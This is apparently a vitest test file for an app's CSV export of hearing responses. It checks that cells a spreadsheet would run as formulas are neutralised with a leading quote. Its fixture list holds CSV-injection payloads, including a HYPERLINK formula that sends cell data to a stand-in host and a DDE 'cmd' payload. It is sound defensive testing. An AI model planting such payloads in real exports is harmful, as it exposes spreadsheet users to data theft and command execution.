import { describe, expect, it } from 'vitest';
import { csvField, toCsv } from '../../../src/app/exports/csv';
import { responseRows } from '../../../src/app/hearings/hearing-files';
import { respondToHearing } from '../../../src/domain/hearing-response';
import type { HearingResponse } from '../../../src/domain/hearing-response';
import { Catalogue } from '../../../src/i18n/catalogue';
import { hearing, must, now, org, submission } from '../hearings/hearing-fixtures';

/** What Excel would do with a cell: a formula when the text (after spaces) starts with one of these. */
const EXCEL_FORMULA_START = /^[\s]*[=+\-@\uff1d\uff0b\uff0d\uff20]|^[\t\r]/;

/** RFC 4180 reader: quoted fields may hold separators, doubled quotes and line breaks. */
function readCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  for (let k = 0; k < text.length; k++) {
    const c = text[k]!;
    if (quoted) {
      if (c === '"' && text[k + 1] === '"') {
        field += '"';
        k++;
      } else if (c === '"') quoted = false;
      else field += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      row.push(field);
      field = '';
    } else if (c === '\r' && text[k + 1] === '\n') {
      row.push(field);
      rows.push(row);
      row = [];
      field = '';
      k++;
    } else field += c;
  }
  return rows;
}

const hostile = [
  '=HYPERLINK("https://evil.example/?"&A1,"Klikk")',
  "+cmd|' /C calc'!A0",
  '@SUM(1+1)',
  '-2+3',
  '\t=1+1',
  '\r=1+1',
  '  =1+1',
  '\uff1dHYPERLINK("https://evil.example")',
];

describe('CSV cells that a spreadsheet would run as formulas', () => {
  it.each(hostile)('neutralises %j with a leading quote and keeps the cell quoted', (value) => {
    const cell = csvField(value);
    expect(cell.startsWith(`"'`)).toBe(true);
    expect(cell.endsWith('"')).toBe(true);
    const [[read]] = readCsv(`${cell}\r\n`) as [[string]];
    expect(read).toBe(`'${value}`);
    expect(EXCEL_FORMULA_START.test(read)).toBe(false);
  });

  it('neutralises negative numbers too: the product writes none, so a "-5" is text', () => {
    expect(csvField('-5')).toBe(`"'-5"`);
  });

  it('leaves ordinary text alone, a hyphen inside a word too', () => {
    expect(csvField('Gol')).toBe('Gol');
    expect(csvField('Nord-Aurdal')).toBe('Nord-Aurdal');
    expect(csvField('3201')).toBe('3201');
    expect(csvField('e-post: a@b.no')).toBe('e-post: a@b.no');
  });

  it('drops characters XML 1.0 forbids, like every document writer', () => {
    expect(csvField('Ja\u0000\u0007\uffff takk')).toBe('Ja takk');
  });

  it('no cell of the hearing responses file starts a formula, whatever the respondents wrote', () => {
    const h = hearing();
    let responses: readonly HearingResponse[] = [];
    responses = must(
      respondToHearing(
        h,
        responses,
        org,
        submission({
          givenBy: 'kari',
          answers: [
            { questionId: 'q1', text: hostile[0]! },
            { questionId: 'q2', text: hostile[1]! },
          ],
          text: hostile[2]!,
        }),
        now,
      ),
    ).responses;
    responses = must(
      respondToHearing(
        h,
        responses,
        org,
        submission({
          givenBy: 'eva',
          municipality: '3310',
          answers: [{ questionId: 'q1', text: '-2+3' }],
          text: '\t@SUM(1+1)',
        }),
        now,
      ),
    ).responses;
    const rows = responseRows(org, h, [...responses], Catalogue.load().for('nb'));
    const file = toCsv(['Kommune', 'Svar'].concat(Array(11).fill('x')), rows);
    const cells = readCsv(file.subarray(3).toString('utf8')).flat();
    expect(cells).toContain(`'${hostile[0]}`);
    expect(cells).toContain(`'${hostile[1]}`);
    expect(cells).toContain(`'${hostile[2]}`);
    expect(cells).toContain("'-2+3");
    // The domain trims the free text, so the tab is gone and the @ leads.
    expect(cells).toContain("'@SUM(1+1)");
    expect(cells.filter((c) => EXCEL_FORMULA_START.test(c))).toEqual([]);
  });
});
